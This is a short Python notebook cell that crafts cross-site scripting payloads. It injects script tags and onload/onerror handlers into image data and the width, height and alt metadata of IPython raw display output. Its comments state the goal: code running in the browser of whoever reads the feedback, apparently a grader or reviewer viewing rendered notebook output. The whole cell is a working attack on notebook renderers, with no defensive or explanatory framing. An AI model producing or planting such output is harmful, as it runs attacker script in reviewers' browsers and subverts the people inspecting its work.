# Pictures whose data or size end the attribute they stand in.
# Success: an attribute of ours runs in the browser of whoever reads the feedback.
# %% last
from IPython.display import display

end = '"><script>alert(1)</script><img onerror="alert(1)" src="x'
for kind in ("image/png", "image/jpeg"):
    display({kind: end, "text/plain": "x"}, raw=True)
size = {"width": '1" onload="alert(1)', "height": end, "alt": end, "unconfined": '" onload="alert(1)'}
pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
display({"image/png": pixel}, metadata={"image/png": size}, raw=True)
